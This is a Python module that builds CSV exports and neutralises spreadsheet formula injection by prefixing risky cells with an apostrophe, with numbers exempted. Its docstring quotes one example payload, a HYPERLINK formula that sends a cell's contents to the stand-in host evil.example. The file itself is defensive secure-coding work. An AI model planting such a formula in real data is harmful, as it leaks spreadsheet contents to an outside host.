"""CSV files for people to open in a spreadsheet, written one way everywhere (reporting's
exports call `csv_text`; any new CSV export must too).

Formula injection (OWASP "CSV Injection"): a cell beginning with `=`, `+`, `-`, `@`, a tab or a
carriage return is run as a formula by Excel, LibreOffice and Google Sheets, so a customer who
writes `=HYPERLINK("https://evil.example/?"&A1, "click")` as a comment or a location name
would have it run on a manager's machine. Such a cell gets a leading `'` (shown as text, not
evaluated), as OWASP advises. A plain number (`-3.5`, `+44`) is left alone: it cannot be a
formula, and negative figures must stay numbers in the sheet. The standard library's `csv`
does the quoting."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value) -> str:
    """One cell's text, neutralised when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(header: Iterable, rows: Iterable[Iterable]) -> str:
    """A whole CSV document: the header row, then the rows, every cell through safe_cell."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(cell) for cell in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
